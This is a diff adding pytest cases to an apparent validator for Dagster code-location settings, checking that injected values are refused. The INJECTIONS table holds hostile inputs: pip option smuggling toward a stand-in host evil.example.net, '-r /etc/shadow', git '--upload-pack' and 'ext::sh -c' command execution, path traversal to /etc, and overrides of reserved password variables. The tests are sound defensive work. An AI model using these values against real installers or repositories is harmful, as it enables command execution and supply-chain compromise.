@@ -411,3 +411,61 @@ def test_a_host_with_no_locations_gets_none():
 @pytest.mark.parametrize("root", ["opt/x", "/opt/my dir", 3])
 def test_the_root_must_be_an_absolute_path(filter_error, assert_field, root):
     assert_field(filter_error(servers, [DEPLOYED], "code1", ADDRESSES, root=root), "dagster_code_location_root")
+
+
+# Requirement, option and path injection, and reserved variables, in a deployed location.
+INJECTIONS = {
+    "newline-in-packages": ({"packages": ["pandas", "etl\n--index-url https://evil.example.net"]}, "packages[1]"),
+    "option-in-packages": ({"packages": ["--extra-index-url=https://evil.example.net"]}, "packages[0]"),
+    "editable-in-packages": ({"packages": ["-e /srv"]}, "packages[0]"),
+    "newline-in-pip-source": ({"source": {"pip": "etl==1.0\n-r /etc/shadow"}}, "source.pip"),
+    "option-as-pip-source": ({"source": {"pip": "--index-url=https://evil.example.net"}}, "source.pip"),
+    "git-source-option": ({"source": {"git": "--upload-pack=touch /tmp/x"}}, "source.git"),
+    "git-ext-transport": ({"source": {"git": "ext::sh -c touch% /tmp/x"}}, "source.git"),
+    "git-version-option": ({"source": {"git": "https://git.example.net/etl.git", "version": "--orphan"}},
+                           "source.version"),
+    "git-version-range": ({"source": {"git": "https://git.example.net/etl.git", "version": "main..dev"}},
+                          "source.version"),
+    "file-leaves-checkout": ({"module": None, "file": "../../../etc/x.py",
+                              "source": {"directory": "/src/etl"}}, "file"),
+    "absolute-file-with-dot-dot": ({"module": None, "file": "/opt/code/../../etc/x.py"}, "file"),
+    "working-directory-dot-dot": ({"working_directory": "/srv/etl/../../etc"}, "working_directory"),
+    "read-write-path-dot-dot": ({"read_write_paths": ["/srv/etl/../../etc"]}, "read_write_paths[0]"),
+    "reserved-password-variable": ({"environment": {"DAGSTER_PG_PASSWORD": "x"}}, "environment.DAGSTER_PG_PASSWORD"),
+    "reserved-image-variable": ({"environment": {"DAGSTER_CURRENT_IMAGE": "x"}}, "environment.DAGSTER_CURRENT_IMAGE"),
+}
+
+
+@pytest.mark.parametrize(("changes", "field"), INJECTIONS.values(), ids=INJECTIONS.keys())
+def test_injections_in_a_deployed_location_are_refused(filter_error, assert_field, changes, field):
+    location = {key: value for key, value in {**DEPLOYED, **changes}.items() if value is not None}
+    assert_field(filter_error(workspace, [location], addresses=ADDRESSES), f"dagster_code_locations[0] ('etl').{field}")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [{"git": "git@git.example.net:data/etl.git", "version": "0123abc"}, {"git": "ssh://git.example.net/etl.git"},
+     {"git": "file:///srv/git/etl", "version": "refs/tags/v1.0"}, {"git": "/srv/git/etl"},
+     {"pip": "etl[extra]>=1.0 ; python_version >= '3.11'"}],
+)
+def test_usual_sources_pass(source):
+    assert workspace([{**DEPLOYED, "source": source}], addresses=ADDRESSES)
+
+
+def test_a_file_location_with_dot_dot_is_refused(filter_error, assert_field):
+    assert_field(filter_error(workspace, [{**FILE, "file": "/opt/code/../x.py"}]), "dagster_code_locations[0] ('scripts').file")
+
+
+@pytest.mark.parametrize(
+    "host", ["code1", "CODE1", "10.0.0.12", "code1."],
+)
+def test_one_endpoint_through_host_and_deploy_to_is_refused(filter_error, assert_field, host):
+    locations = [{**GRPC, "name": "vendor", "host": host, "port": 4000}, DEPLOYED]
+    message = filter_error(workspace, locations, addresses=ADDRESSES)
+    assert_field(message, "dagster_code_locations[1] ('etl').port")
+
+
+@pytest.mark.parametrize("spelling", ["LOCALHOST", "127.0.0.1", "localhost."])
+def test_one_endpoint_spelled_two_ways_is_refused(filter_error, assert_field, spelling):
+    locations = [{**GRPC, "name": "a", "host": "localhost"}, {**GRPC, "name": "b", "host": spelling}]
+    assert_field(filter_error(workspace, locations), "dagster_code_locations[1] ('b').port")
